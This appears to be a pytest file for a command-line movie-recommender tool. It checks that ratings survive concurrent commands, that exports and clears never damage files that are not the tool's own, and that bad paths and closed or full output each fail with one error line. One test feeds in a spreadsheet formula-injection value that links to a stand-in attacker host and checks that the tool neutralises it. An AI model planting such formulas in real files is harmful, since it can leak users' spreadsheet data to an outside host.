"""Your files are sacred, on the command line: nothing lost when commands and the app run at
once, nothing replaced or deleted that is not ours, one line and exit 2 for every bad path."""

from __future__ import annotations

import os
import resource
import shlex
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests.cli.test_cli import run
from tests.support import make_app, make_engine, settle
from tui_recsys.data.profile_file import COLUMNS, load_profile
from tui_recsys.engine.cache.store import Store

HEADER = ",".join(COLUMNS) + "\n"
TMDB_IDS = [50357, 18823, 9087, 603, 1255, 72710, 13, 278, 5]  # every tiny movie but Avatar


@pytest.fixture
def data(tiny: Path, cache_dir: Path) -> Path:
    make_engine(tiny, cache_dir).index()  # the commands look titles up in it
    return tiny


def _command(*argv: str | Path) -> list[str]:
    return [sys.executable, "-m", "tui_recsys", *map(str, argv)]


def _niced(command: list[str]) -> list[str]:
    """A command of a crowd, at the lowest priority: two hundred at once starved an app test
    on the other worker past Textual's 30 s wait for its screen. `nice` rather than a
    `preexec_fn`, which Python may not run safely beside the threads of a test worker."""
    return ["nice", "-n", "19", *command]


async def test_commands_and_the_app_at_once_keep_every_rating(data: Path, cache_dir: Path,
                                                              tmp_path: Path):
    profile = tmp_path / "mine.csv"
    os.environ["TUI_RECSYS_PROFILE"] = str(profile)
    try:
        commands = [subprocess.Popen(_command("rate", "--tmdb-id", movie, "4", "--data", data),
                                     stderr=subprocess.PIPE, text=True) for movie in TMDB_IDS]
        app = make_app(data, cache_dir)
        async with app.run_test(size=(120, 40)) as pilot:
            await settle(pilot)
            app.main.select_movie(app.main.index.movies.by_tmdb(19995))
            await settle(pilot)
            await pilot.press("plus")  # the app rates Avatar while the commands run
            await settle(pilot)
        for command in commands:
            assert command.wait(120) == 0, command.stderr.read() if command.stderr else ""
    finally:
        del os.environ["TUI_RECSYS_PROFILE"]
    assert {r.tmdb_id for r in load_profile(profile).ratings.values()} == {19995, *TMDB_IDS}


def test_an_export_never_overwrites_the_profile_and_a_failed_one_leaves_the_file(
        data: Path, tmp_path: Path, capsys):
    profile = tmp_path / "mine.csv"
    where = ["--data", str(data), "--profile", str(profile)]
    assert run(capsys, "rate", "Avatar", "4", *where)[0] == 0
    before = profile.read_bytes()
    hard = tmp_path / "hard.csv"
    os.link(profile, hard)
    code, _, err = run(capsys, "profile", "export", str(hard), *where)
    assert code == 2 and "is your profile itself" in err and profile.read_bytes() == before
    target = tmp_path / "export.csv"
    previous = "movielens_id,tmdb_id,title,year,rating,rated_at\n"  # an earlier export
    target.write_text(previous)

    def small_files() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (16, 16))

    done = subprocess.run(_command("profile", "export", target, *where), capture_output=True,
                          text=True, preexec_fn=small_files, timeout=120)
    assert done.returncode == 2 and len(done.stderr.splitlines()) == 1
    assert "cannot be saved" in done.stderr and target.read_text() == previous
    done = subprocess.run(_command("rate", "Apollo 18", "3", *where), capture_output=True,
                          text=True, preexec_fn=small_files, timeout=120)
    assert done.returncode == 2 and "nothing was changed" in done.stderr
    assert profile.read_bytes() == before
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_clear_refuses_what_is_not_a_profile(data: Path, tmp_path: Path, capsys):
    thesis = tmp_path / "thesis.txt"
    thesis.write_text("Chapter one\n")
    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    for path, says in ((thesis, "is not a tui-recsys profile"), (tmp_path, "is a folder"),
                       (fifo, "is a FIFO")):
        code, _, err = run(capsys, "profile", "clear", "--profile", str(path))
        assert code == 2 and says in err and len(err.splitlines()) == 1
    assert thesis.read_text() == "Chapter one\n" and stat.S_ISFIFO(fifo.lstat().st_mode)
    for action in (["profile", "show"], ["rate", "Avatar", "4", "--data", str(data)]):
        code, _, err = run(capsys, *action, "--profile", str(fifo))
        assert code == 2 and "is a FIFO, not a file" in err
    # told from a Letterboxd export's zip without being opened: opened, it would wait for ever
    for action in (["import", str(fifo)], ["recommend", "together", "--user", "1",
                                           "--profile", str(fifo)]):
        code, _, err = run(capsys, *action, "--data", str(data))
        assert code == 2 and "is a FIFO, not a file" in err


def test_a_device_as_the_profile_is_never_replaced(data: Path, tmp_path: Path, capsys):
    device = tmp_path / "devnull"
    try:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("making a device needs root")
    for action in (["rate", "Avatar", "4", "--data", str(data)], ["profile", "clear"]):
        code, _, err = run(capsys, *action, "--profile", str(device))
        assert code == 2 and "is a device, not a file" in err
        assert stat.S_ISCHR(device.lstat().st_mode)


def test_exports_and_listings_are_safe_in_a_spreadsheet_and_read_back(data: Path,
                                                                      tmp_path: Path, capsys):
    where = ["--data", str(data), "--profile", str(tmp_path / "p" / "mine.csv")]
    letterboxd = tmp_path / "letterboxd.csv"
    letterboxd.write_text("Date,Name,Year,Letterboxd URI,Rating\n2024-05-14,Avatar,2009,u,4\n"
                          '2024-05-15,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",'
                          "2000,u,3\n")
    assert run(capsys, "profile", "import", str(letterboxd), *where)[0] == 0
    listing = (tmp_path / "p" / "unmatched-letterboxd.csv").read_text()
    assert "'=HYPERLINK" in listing and ",=HYPERLINK" not in listing
    exported = tmp_path / "export.csv"
    assert run(capsys, "profile", "export", str(exported), *where)[0] == 0
    code, _, err = run(capsys, "profile", "import", str(exported), *where)
    assert code == 0 and "0 new, 0 changed, 1 unchanged" in err


def test_stdout_closed_or_full(data: Path, tmp_path: Path, capsys):
    profile = tmp_path / "mine.csv"
    profile.write_text(HEADER + "".join(f"{i},,Film {i},2000,4,\n" for i in range(1, 100_001)))
    pipeline = subprocess.run(f"{' '.join(_command('profile', 'export', '-'))} --profile "
                              f"{profile} | head -1; exit ${{PIPESTATUS[0]}}", shell=True,
                              executable="/bin/bash", capture_output=True, text=True,
                              timeout=120)
    assert pipeline.returncode == 141 and pipeline.stdout == HEADER and pipeline.stderr == ""
    with open("/dev/full", "w") as full:
        done = subprocess.run(_command("profile", "export", "-", "--profile", profile),
                              stdout=full, stderr=subprocess.PIPE, text=True, timeout=120)
    assert done.returncode == 2 and len(done.stderr.splitlines()) == 1
    assert "cannot write to stdout" in done.stderr


@pytest.mark.parametrize("argv", [["recommend", "chart"], ["profile", "show"],
                                  ["watchlist", "show"], ["cache", "info"]])
def test_every_listing_said_so_when_stdout_is_full_or_closed(data: Path, tmp_path: Path,
                                                             argv: list[str]):
    """Only exports said so: `recommend chart > /dev/full` ended with "unexpected error:
    OSError", and with stdout closed (`>&-`) every listing vanished, exit 0."""
    where = ["--data", str(data), "--profile", str(tmp_path / "mine.csv")]
    (tmp_path / "mine.csv").write_text(HEADER + "1,19995,Avatar,2009,4,\n")
    assert subprocess.run(_command("watchlist", "add", "Avatar", *where), capture_output=True,
                          timeout=120).returncode == 0
    assert subprocess.run(_command("recommend", "chart", *where), capture_output=True,
                          timeout=120).returncode == 0  # a cache entry for `cache info`
    command = " ".join(map(shlex.quote, _command(*argv, *where)))
    for redirect, said in ((">/dev/full", "No space left on device"), (">&-", "it is closed")):
        done = subprocess.run(f"{command} {redirect}", shell=True, executable="/bin/bash",
                              capture_output=True, text=True, timeout=120)
        assert done.returncode == 2, (redirect, done.stderr)
        assert f"tui-recsys: cannot write to stdout ({said})" in done.stderr
        assert "unexpected" not in done.stderr


@pytest.mark.parametrize("argv", [
    ["profile", "show", "--profile", "~nosuchuser/mine.csv"],
    ["cache", "info", "--cache-dir", "~nosuchuser/cache"],
    ["profile", "export", "~nosuchuser/out.csv"],
    ["profile", "show", "--profile", ""],
    ["recommend", "story", "--movie", ""],
    ["recommend", "chart", "--years", "-"],
])
def test_a_bad_path_or_value_is_one_line_and_2(data: Path, capsys, argv: list[str]):
    try:
        code = run(capsys, *argv, "--data", str(data))[0]
    except SystemExit as usage:  # argparse's own usage error
        code = int(str(usage.code))
    err = capsys.readouterr().err
    assert code == 2 and "unexpected" not in err and "Traceback" not in err


def test_files_that_are_not_ours_to_read_or_write(data: Path, tmp_path: Path, capsys):
    where = ["--data", str(data)]
    code, _, err = run(capsys, "profile", "import", "/dev/zero", *where)
    assert code == 2 and "/dev/zero is a device, not a file" in err
    code, _, err = run(capsys, "rate", "Avatar", "4", "--profile", "/proc/version", *where)
    assert code == 2 and len(err.splitlines()) == 1
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    code, _, err = run(capsys, "rate", "Avatar", "4", "--profile",
                       str(blocker / "mine.csv"), *where)
    assert code == 2 and len(err.splitlines()) == 1 and "unexpected" not in err
    imdb = tmp_path / "imdb.csv"
    imdb.write_text("Const,Your Rating\ntt\u00b2\u00b3,8\n")
    code, _, err = run(capsys, "profile", "import", str(imdb), *where)
    assert code == 2 and "is not an IMDb id" in err
    imdb.write_text(f"Const,Your Rating\ntt{'9' * 5000},8\n")
    code, _, err = run(capsys, "profile", "import", str(imdb), *where)
    assert code == 2 and "is not an IMDb id" in err


def test_cache_clear_reports_what_it_removed(data: Path, cache_dir: Path, capsys,
                                             monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(Store, "_remove", lambda self, path: None)  # as a read-only folder
    code, _, err = run(capsys, "cache", "clear", "--data", str(data))
    assert code == 1 and "removed 0 cache entries" in err
    assert "could not remove 2 entries" in err  # the catalogue and the index


@pytest.mark.parametrize(("config", "says"), [
    ('{"cluster": {"worker": "a:1"}, "task": {"type": "worker", "index": 0}}',
     "not a list of \"host:port\" strings"),
    ('{"cluster": {"worker": ["a:1", "b:x"]}, "task": {"type": "worker", "index": 0}}',
     "not a list of \"host:port\" strings"),
    ('{"cluster": {"worker": ["a:1", "b:2"]}}', "no \"task\""),
    ('{"cluster": {"worker": ["a:1", "b:2"]}, "task": {"type": "worker", "index": 2}}',
     "task index '2' is not 0 to 1"),
    ("[" * 20_000 + "]" * 20_000, "TF_CONFIG is not JSON"),
])
def test_tf_config_is_checked_before_training(data: Path, capsys,
                                              monkeypatch: pytest.MonkeyPatch, config: str,
                                              says: str):
    monkeypatch.setenv("TF_CONFIG", config)
    code, _, err = run(capsys, "build", "for-user", "--data", str(data))
    assert code == 2 and says in err and len(err.strip().splitlines()) <= 2


def test_a_fifo_in_place_of_a_cache_file_is_rebuilt_not_read(data: Path, cache_dir: Path,
                                                             capsys):
    argv = ["recommend", "story", "--movie", "Avatar", "--json", "--data", str(data)]
    assert run(capsys, *argv)[0] == 0
    (entry,) = cache_dir.glob("story-*")
    victim = next(path for path in entry.iterdir() if path.name != "manifest.json")
    victim.unlink()
    os.mkfifo(victim)
    code, out, err = run(capsys, *argv)  # a reader of the FIFO would wait for ever
    assert code == 0 and '"Apollo 18"' in out and "is not a regular file" in err


@pytest.mark.slow
def test_a_hundred_pairs_of_rate_commands_at_once_keep_every_rating(tmp_path: Path,
                                                                    cache_dir: Path):
    """The issue's own run: 100 pairs of `tui-recsys rate` at once, each on another movie."""
    import pandas as pd

    from tests.support import write_dataset

    movies = range(1, 201)
    frames = {
        "movies": pd.DataFrame([(m, f"Film {m} (2000)", "Drama") for m in movies],
                               columns=["movieId", "title", "genres"]),
        "ratings": pd.DataFrame([(1 + m % 7, m, 4.0, 964982703) for m in movies],
                                columns=["userId", "movieId", "rating", "timestamp"]),
    }
    data = write_dataset(tmp_path / "data", tmdb=None, links=False, movielens=frames)
    make_engine(data, cache_dir).index()
    profile = tmp_path / "mine.csv"
    commands = [subprocess.Popen(_niced(_command("rate", "--movielens-id", movie, "4", "--data",
                                                 data, "--profile", profile)),
                                 stderr=subprocess.PIPE, text=True) for movie in movies]
    said = [(command.wait(300), command.stderr.read() if command.stderr else "")
            for command in commands]
    assert [code for code, _ in said] == [0] * len(commands)
    assert all(err.startswith("tui-recsys: rated Film") for _, err in said)
    assert len(load_profile(profile)) == len(commands)
